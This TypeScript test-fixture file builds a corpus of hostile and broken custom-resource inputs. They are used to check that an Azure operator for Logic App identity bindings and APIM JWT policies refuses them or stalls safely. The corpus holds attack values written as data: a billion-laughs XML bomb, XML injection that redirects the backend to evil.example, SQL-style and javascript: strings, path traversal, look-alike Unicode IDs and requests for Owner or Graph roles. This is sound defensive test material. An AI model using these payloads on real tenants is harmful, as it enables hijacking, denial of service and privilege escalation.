/**
 * Hostile and broken input (issue 16): objects a namespace user might write, by mistake or on purpose. Each must be
 * refused at admission (CRD schema / CEL) or end Stalled with a reason a person can act on; `inert` ones (XML in a
 * literal value) may end Ready only if what reaches APIM carries the text escaped, never as markup. The world is
 * the seed scenario plus `seedPathologicalApis`; `claimed` is a Logic App another object of the fleet binds.
 */
import type { RunningEmulator, ScenarioIds } from "../../emulator/index.ts";

export interface CorpusEntry {
  name: string;
  kind: "LogicAppIdentityBinding" | "ApimJwtPolicy" | "ApiRegistration" | "AzureAccessPolicy";
  spec: Record<string, unknown>;
  /** Where it must be stopped: admission, Stalled, or either. `inert`: Ready allowed if `mustNotAppear` is absent. */
  expect: "admission" | "stalled" | "either" | "inert";
  /** Markup that must not appear unescaped in any APIM policy or fragment. */
  mustNotAppear?: string;
  /**
   * AzureAccessPolicy entries only (cluster-scoped, never Stalled: the kind has no reconcile that can fail): when
   * admitted, this binding (created after it, on a Logic App of its own) must still not become Ready. It asks for
   * exactly what the bad policy would wrongly allow.
   */
  probe?: Record<string, unknown>;
}

/** What the fleet declares for issue 13, so the corpus can aim at it. */
export interface RegistrationWorld {
  /** The identifier URI prefix the namespace's AzureAccessPolicy allows. */
  prefix: string;
  /** An application a person registered under that prefix; the operator is not an owner. */
  foreignUri: string;
  /** The fleet's own registration (name, URI), claimed by it. */
  own: { name: string; uri: string };
  /** Logic Apps no other object binds, one per reference case, so each stalls on its reference, not a claim. */
  spare: readonly string[];
  /** The namespace under test (the access-policy entries select it). */
  namespace: string;
}

const long = (n: number) => "a".repeat(n);

/** APIs whose existing policy is pathological: a JWT policy aimed at one must stall, not crash or hang. */
export const PATHOLOGICAL: Record<string, string> = {
  "broken-xml": '<policies><inbound><base /><set-header name="x"></inbound></policies>',
  "billion-laughs":
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><policies><inbound><base /><set-header name="x"><value>&lol3;</value></set-header></inbound></policies>',
  "no-inbound": "<policies><outbound><base /></outbound></policies>",
  "deep-nesting": `<policies><inbound><base />${'<choose><when condition="true">'.repeat(400)}${"</when></choose>".repeat(400)}</inbound></policies>`,
  "two-inbounds": "<policies><inbound><base /></inbound><inbound><base /></inbound></policies>",
  "not-policies": "<html><body>hello</body></html>",
};

/**
 * Seeds an API per pathological document; returns the API IDs whose document APIM (the emulator) accepted. One it
 * refuses cannot exist in APIM, so no object can meet it: that API keeps no policy and is left out.
 */
/** Well-formed policy documents, odd only in shape: ADR 0021 inserts into them (shape C adds an inbound). */
const WELL_FORMED = new Set(["no-inbound", "deep-nesting", "two-inbounds"]);

export async function seedPathologicalApis(emu: RunningEmulator, ids: ScenarioIds): Promise<string[]> {
  const accepted: string[] = [];
  for (const [apiId, xml] of Object.entries(PATHOLOGICAL)) {
    await emu.control.seedApimApi({ serviceId: ids.apim.serviceId, apiId, path: apiId });
    const ok = await emu.control.putPolicyRaw({ serviceId: ids.apim.serviceId, apiId }, xml).then(
      () => true,
      () => false,
    );
    if (ok) accepted.push(apiId);
  }
  return accepted;
}

export function corpus(
  ids: ScenarioIds,
  claimed: string,
  pathological: readonly string[] = Object.keys(PATHOLOGICAL),
  reg?: RegistrationWorld,
): CorpusEntry[] {
  const sub = `/subscriptions/${ids.subscriptionId}`;
  const rg = ids.resourceGroupId;
  const otherSub = `/subscriptions/${ids.subscriptionId.slice(0, -1)}${ids.subscriptionId.endsWith("b") ? "c" : "b"}`;
  const la = ids.logicAppId;
  const sys = { type: "SystemAssigned" };
  const b = (
    name: string,
    spec: Record<string, unknown>,
    expect: CorpusEntry["expect"] = "either",
  ): CorpusEntry => ({
    name,
    kind: "LogicAppIdentityBinding",
    spec: { identity: sys, ...spec },
    expect,
  });
  const ra = (scope: string, role = "Reader") => ({ roleAssignments: [{ scope, role }], logicAppId: la });
  const j = (
    name: string,
    spec: Record<string, unknown>,
    expect: CorpusEntry["expect"] = "either",
    mustNotAppear?: string,
  ): CorpusEntry => ({
    name,
    kind: "ApimJwtPolicy",
    spec: {
      apimServiceId: ids.apim.serviceId,
      target: { apiId: ids.apim.apiId },
      tenantId: ids.tenantId,
      audiences: ["api://orders"],
      ...spec,
    },
    expect,
    ...(mustNotAppear ? { mustNotAppear } : {}),
  });
  return [
    // Logic App IDs: malformed and look-alike.
    b("logicAppId not an ID", { logicAppId: "not-an-arm-id" }, "admission"),
    b("logicAppId empty", { logicAppId: "" }, "admission"),
    b("logicAppId with ..", { logicAppId: `${rg}/providers/Microsoft.Logic/workflows/..` }, "admission"),
    b("logicAppId with %2F", { logicAppId: `${rg}/providers/Microsoft.Logic/workflows/a%2Fb` }, "admission"),
    b("logicAppId trailing slash", { logicAppId: `${la}/` }, "admission"),
    b("logicAppId wrong provider", { logicAppId: `${rg}/providers/Microsoft.Logics/workflows/x` }),
    b("logicAppId singular type", { logicAppId: `${rg}/providers/Microsoft.Logic/workflow/x` }),
    b("logicAppId Cyrillic M", { logicAppId: `${rg}/providers/\u041cicrosoft.Logic/workflows/x` }),
    b("logicAppId newline", { logicAppId: `${la}\n/x` }, "admission"),
    b(
      "logicAppId oversize",
      { logicAppId: `${rg}/providers/Microsoft.Logic/workflows/${long(1100)}` },
      "admission",
    ),
    b(
      "logicAppId missing Logic App",
      { logicAppId: `${rg}/providers/Microsoft.Logic/workflows/nope` },
      "stalled",
    ),
    b(
      "logicAppId other subscription",
      { logicAppId: `${otherSub}/resourceGroups/rg/providers/Microsoft.Logic/workflows/x` },
      "stalled",
    ),
    b("Logic App claimed by another object", { logicAppId: claimed }, "stalled"),
    b("logicAppId a key vault (wrong kind)", {
      logicAppId: `${rg}/providers/Microsoft.KeyVault/vaults/kv-orders`,
    }),
    // Scopes.
    b("scope /../..", ra(`${sub}/resourceGroups/rg-orders/../..`)),
    b("scope %2F", ra(`${sub}/resourceGroups/rg-orders%2F..`)),
    b("scope %2f lower", ra(`${sub}/resourceGroups/rg%2forders`)),
    b("scope root /", ra("/")),
    b("scope empty", ra("")),
    b("scope double slash", ra(`${sub}//resourceGroups/rg-orders`)),
    b("scope with query", ra(`${rg}?api-version=1`)),
    b("scope management group", ra("/providers/Microsoft.Management/managementGroups/root")),
    b("scope other subscription", ra(`${otherSub}/resourceGroups/rg`), "stalled"),
    b("scope oversize", ra(`${rg}/${long(1100)}`), "admission"),
    b("scope look-alike subscription", ra(`${otherSub}`), "stalled"),
    // Roles.
    b("role Owner", ra(rg, "Owner"), "stalled"),
    b("role User Access Administrator", ra(rg, "User Access Administrator"), "stalled"),
    b("role Owner by GUID", ra(rg, "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"), "stalled"),
    b("role unknown name", ra(rg, "Definitely Not A Role"), "stalled"),
    b("role injection", ra(rg, "Reader' or '1'='1")),
    b("role oversize", ra(rg, long(600)), "admission"),
    b(
      "33 role assignments",
      {
        logicAppId: la,
        roleAssignments: Array.from({ length: 33 }, (_, i) => ({ scope: `${rg}/x${i}`, role: "Reader" })),
      },
      "admission",
    ),
    b(
      "duplicate role assignment",
      {
        logicAppId: la,
        roleAssignments: [
          { scope: rg, role: "Reader" },
          { scope: rg, role: "Reader" },
        ],
      },
      "admission",
    ),
    // App roles.
    b(
      "api unknown",
      { logicAppId: la, appRoleAssignments: [{ api: "api://unknown", appRole: "AddRole" }] },
      "stalled",
    ),
    b(
      "appRole unknown",
      { logicAppId: la, appRoleAssignments: [{ api: "api://orders", appRole: "Nope" }] },
      "stalled",
    ),
    b("appRole with spaces", {
      logicAppId: la,
      appRoleAssignments: [{ api: "api://orders", appRole: "Add Role" }],
    }),
    b(
      "Graph privileged app role",
      {
        logicAppId: la,
        appRoleAssignments: [
          { api: "00000003-0000-0000-c000-000000000000", appRole: "RoleManagement.ReadWrite.Directory" },
        ],
      },
      "stalled",
    ),
    b(
      "17 app roles",
      {
        logicAppId: la,
        appRoleAssignments: Array.from({ length: 17 }, (_, i) => ({ api: "api://orders", appRole: `R${i}` })),
      },
      "admission",
    ),
    // Identity.
    b("identity type bogus", { logicAppId: la, identity: { type: "Bogus" } }, "admission"),
    b("UserAssigned without id", { logicAppId: la, identity: { type: "UserAssigned" } }, "admission"),
    b(
      "SystemAssigned with an id",
      { logicAppId: la, identity: { type: "SystemAssigned", userAssignedIdentityId: `${rg}/x` } },
      "admission",
    ),
    b(
      "UserAssigned missing identity",
      {
        logicAppId: la,
        identity: {
          type: "UserAssigned",
          userAssignedIdentityId: `${rg}/providers/Microsoft.ManagedIdentity/userAssignedIdentities/nope`,
        },
      },
      "stalled",
    ),
    b(
      "UserAssigned id with ..",
      {
        logicAppId: la,
        identity: {
          type: "UserAssigned",
          userAssignedIdentityId: `${rg}/providers/Microsoft.ManagedIdentity/userAssignedIdentities/..`,
        },
      },
      "admission",
    ),
    b("deletionPolicy bogus", { logicAppId: la, deletionPolicy: "Destroy" }, "admission"),
    // JWT policies: IDs and targets.
    j("apimServiceId malformed", { apimServiceId: "apim-orders" }, "admission"),
    j(
      "apimServiceId other subscription",
      { apimServiceId: `${otherSub}/resourceGroups/rg/providers/Microsoft.ApiManagement/service/x` },
      "stalled",
    ),
    j(
      "apimServiceId missing",
      { apimServiceId: `${rg}/providers/Microsoft.ApiManagement/service/nope` },
      "stalled",
    ),
    j(
      "target product and api",
      { target: { apiId: ids.apim.apiId, productId: ids.apim.productId } },
      "admission",
    ),
    j("target operation without api", { target: { operationId: ids.apim.operationId } }, "admission"),
    j("target apiId ..", { target: { apiId: ".." } }),
    j("target apiId %2F", { target: { apiId: "orders-api%2F..%2Fother" } }),
    j("target apiId missing", { target: { apiId: "no-such-api" } }, "stalled"),
    // Values: expression and XML injection, oversize.
    j("audience policy expression", { audiences: ["@(context.Request.Headers)"] }, "admission"),
    j("audience named value", { audiences: ["{{secret-key}}"] }, "admission"),
    j("issuer policy expression", { issuers: ['@{return "x";}'] }, "admission"),
    j("message policy expression", { failedValidation: { message: " @(1)" } }, "admission"),
    j(
      "audience XML injection",
      {
        audiences: [
          'x"/></audiences><set-backend-service base-url="https://evil.example"/><audiences><audience>y',
        ],
      },
      "inert",
      "<set-backend-service",
    ),
    j(
      "message XML injection",
      { failedValidation: { message: '"><set-variable name="pwned" value="1" /><x a="' } },
      "inert",
      "<set-variable",
    ),
    j(
      "message CDATA break",
      { failedValidation: { message: ']]><rate-limit calls="1"/>' } },
      "inert",
      '<rate-limit calls="1"',
    ),
    j("11 audiences", { audiences: Array.from({ length: 11 }, (_, i) => `api://a${i}`) }, "admission"),
    j("audience oversize", { audiences: [long(300)] }, "admission"),
    j("tenantId not a GUID", { tenantId: "contoso.onmicrosoft.com" }, "admission"),
    j(
      "openIdConfigUrl http",
      { openIdConfigUrl: "http://login.example/.well-known/openid-configuration" },
      "admission",
    ),
    j("openIdConfigUrl javascript", { openIdConfigUrl: "javascript:alert(1)" }, "admission"),
    j("httpCode 200", { failedValidation: { httpCode: 200 } }, "admission"),
    j("mode bogus", { mode: "Both" }, "admission"),
    j("no audiences no bindingRef", { audiences: [] }, "admission"),
    // The app-role value pattern admits '<' and '/': it must reach APIM escaped.
    j("requiredRoles markup", { requiredRoles: ["<x/>"] }, "inert", "<x/>"),
    // References.
    j("bindingRef missing", { bindingRef: { name: "no-such-binding" }, audiences: undefined }, "stalled"),
    j("bindingRef other namespace", { bindingRef: { name: "other-ns/b-0" } }, "admission"),
    j(
      "bindingRef to a policy (wrong kind)",
      { bindingRef: { name: "jwt-0" }, audiences: undefined },
      "stalled",
    ),
    // Pathological policy documents in APIM.
    // Unreadable documents must stall; unusual but well-formed ones (no inbound, deep nesting) may take the rule.
    ...pathological.map((apiId) =>
      j(`target policy ${apiId}`, { target: { apiId } }, WELL_FORMED.has(apiId) ? "inert" : "stalled"),
    ),
    ...(reg ? registrationCorpus(ids, reg) : []),
  ];
}

/**
 * Issue 13 and the tenancy kind: bad ApiRegistration objects, bindings whose apiRegistrationRef points nowhere
 * useful, and AzureAccessPolicy objects an administrator might get wrong.
 */
export function registrationCorpus(ids: ScenarioIds, reg: RegistrationWorld): CorpusEntry[] {
  const sub = `/subscriptions/${ids.subscriptionId}`;
  const role = { value: "Invoke", displayName: "Invoke" };
  const r = (name: string, spec: Record<string, unknown>, expect: CorpusEntry["expect"]): CorpusEntry => ({
    name,
    kind: "ApiRegistration",
    spec: {
      displayName: "bad registration",
      identifierUris: [`${reg.prefix}/bad`],
      appRoles: [role],
      ...spec,
    },
    expect,
  });
  let spare = 0;
  const ref = (
    name: string,
    refName: string,
    expect: CorpusEntry["expect"],
    appRole = "Invoke",
  ): CorpusEntry => ({
    name,
    kind: "LogicAppIdentityBinding",
    spec: {
      logicAppId: reg.spare[spare++ % (reg.spare.length - 2)],
      identity: { type: "SystemAssigned" },
      appRoleAssignments: [{ apiRegistrationRef: { name: refName }, appRole }],
    },
    expect,
  });
  const ap = (
    name: string,
    spec: Record<string, unknown>,
    expect: "admission" | "inert",
    probe?: Record<string, unknown>,
  ): CorpusEntry => ({
    name,
    kind: "AzureAccessPolicy",
    spec: { namespaces: { names: [reg.namespace] }, ...spec },
    expect,
    ...(probe ? { probe: { identity: { type: "SystemAssigned" }, ...probe } } : {}),
  });
  const uris = (...u: string[]) => ({ identifierUris: u });
  return [
    // Identifier URIs: the trailing slash (tokens carry the URI verbatim), look-alike schemes, oversize.
    r("registration trailing slash", uris(`${reg.prefix}/bad/`), "admission"),
    r("registration scheme http", uris("http://rel.example/orders"), "admission"),
    r("registration scheme API upper case", uris(`API://${reg.prefix.slice(6)}/bad`), "admission"),
    r("registration scheme apis", uris(`apis://${reg.prefix.slice(6)}/bad`), "admission"),
    r("registration scheme api:/ (one slash)", uris(`api:/${reg.prefix.slice(6)}/bad`), "admission"),
    r("registration scheme javascript", uris("javascript://alert(1)"), "admission"),
    r("registration URI with space", uris(`${reg.prefix}/a b`), "admission"),
    r("registration URI Cyrillic a", uris(`\u0430pi://${reg.prefix.slice(6)}/bad`), "admission"),
    r("registration URI oversize", uris(`${reg.prefix}/${"a".repeat(300)}`), "admission"),
    r(
      "registration 9 URIs",
      uris(...Array.from({ length: 9 }, (_, i) => `${reg.prefix}/u${i}`)),
      "admission",
    ),
    r("registration no URI", uris(), "admission"),
    // App roles: duplicate values (the list is a map keyed by value), oversize, bad values.
    r(
      "registration duplicate role values",
      { appRoles: [role, { ...role, displayName: "again" }] },
      "admission",
    ),
    r(
      "registration 65 roles",
      { appRoles: Array.from({ length: 65 }, (_, i) => ({ value: `R${i}`, displayName: `R${i}` })) },
      "admission",
    ),
    r(
      "registration role value with space",
      { appRoles: [{ value: "Add Role", displayName: "x" }] },
      "admission",
    ),
    r("registration displayName oversize", { displayName: "a".repeat(300) }, "admission"),
    r("registration token version 3", { requestedAccessTokenVersion: 3 }, "admission"),
    r("registration deletionPolicy bogus", { deletionPolicy: "Purge" }, "admission"),
    // Tenancy: outside the prefixes, a prefix without a path boundary, case games.
    r("registration URI outside prefixes", uris("api://payments"), "stalled"),
    r("registration URI same start, no boundary", uris(`${reg.prefix}-admin`), "stalled"),
    r(
      "registration URI prefix in another case",
      uris(`${reg.prefix.toUpperCase().replace("API://", "api://")}/x`),
      "stalled",
    ),
    r("registration URI of a Microsoft API", uris("https://graph.microsoft.com"), "stalled"),
    // Someone else's application: adoption of one the operator does not own, a URI another application holds,
    // and the fleet's own registration's URI (claimed by that object).
    r("registration adopts a person's application", uris(reg.foreignUri), "stalled"),
    r("registration URI held by another app", uris(`${reg.prefix}/new-one`, reg.foreignUri), "stalled"),
    r("registration URI of another registration", uris(reg.own.uri), "stalled"),
    // apiRegistrationRef: missing, other namespace, wrong kinds, both api and ref, a role it does not declare.
    ref("apiRegistrationRef missing", "no-such-registration", "stalled"),
    ref("apiRegistrationRef to a binding (wrong kind)", "b-0", "stalled"),
    ref("apiRegistrationRef to a JWT policy (wrong kind)", "jwt-0", "stalled"),
    ref("apiRegistrationRef other namespace", "other-ns/reg-0", "admission"),
    ref("apiRegistrationRef with ..", "..", "admission"),
    ref("apiRegistrationRef undeclared role", reg.own.name, "stalled", "NotDeclared"),
    {
      name: "apiRegistrationRef and api both",
      kind: "LogicAppIdentityBinding",
      spec: {
        logicAppId: reg.spare[0],
        identity: { type: "SystemAssigned" },
        appRoleAssignments: [
          { api: ids.ordersApi.identifierUri, apiRegistrationRef: { name: reg.own.name }, appRole: "Invoke" },
        ],
      },
      expect: "admission",
    },
    // AzureAccessPolicy: what an administrator might get wrong. Refused by the schema, or admitted and powerless:
    // the probe binding asking for what it would wrongly allow stays short of Ready.
    ap("access policy no namespaces", { namespaces: {} }, "admission"),
    ap("access policy scope with ..", { scopes: [`${sub}/resourceGroups/..`] }, "admission"),
    ap("access policy scope %2F", { scopes: [`${sub}/resourceGroups/a%2F..`] }, "admission"),
    ap("access policy scope root", { scopes: ["/"] }, "admission"),
    ap(
      "access policy allows Owner by name",
      { scopes: [sub], maxScopeBreadth: "subscription", roles: ["Owner"], logicApps: [sub] },
      "inert",
      { logicAppId: reg.spare.at(-1), roleAssignments: [{ scope: ids.keyVaultScope, role: "Owner" }] },
    ),
    ap("access policy privilegedRoles by name", { privilegedRoles: ["Owner"] }, "admission"),
    ap(
      "access policy management group breadth",
      { scopes: [sub], maxScopeBreadth: "managementGroup" },
      "admission",
    ),
    ap(
      "access policy Graph by URI with *",
      { logicApps: [sub], apis: [{ api: "https://graph.microsoft.com", appRoles: ["*"] }] },
      "inert",
      {
        logicAppId: reg.spare.at(-2),
        appRoleAssignments: [{ api: "https://graph.microsoft.com", appRole: "Directory.ReadWrite.All" }],
      },
    ),
    ap(
      "access policy registration prefix empty",
      { apiRegistrations: { identifierUriPrefixes: [] } },
      "admission",
    ),
    ap(
      "access policy registration prefix bare scheme",
      { apiRegistrations: { identifierUriPrefixes: ["api://"] } },
      "admission",
    ),
    ap(
      "access policy registration prefix look-alike scheme",
      { apiRegistrations: { identifierUriPrefixes: ["apis://rel"] } },
      "admission",
    ),
    ap(
      "access policy 65 registration prefixes",
      { apiRegistrations: { identifierUriPrefixes: Array.from({ length: 65 }, (_, i) => `api://p${i}`) } },
      "admission",
    ),
    ap(
      "access policy app role with space",
      { apis: [{ api: "api://x", appRoles: ["Add Role"] }] },
      "admission",
    ),
    ap(
      "access policy unknown target kind",
      { apimServices: [{ serviceId: sub, targets: ["Tenant"] }] },
      "admission",
    ),
  ];
}
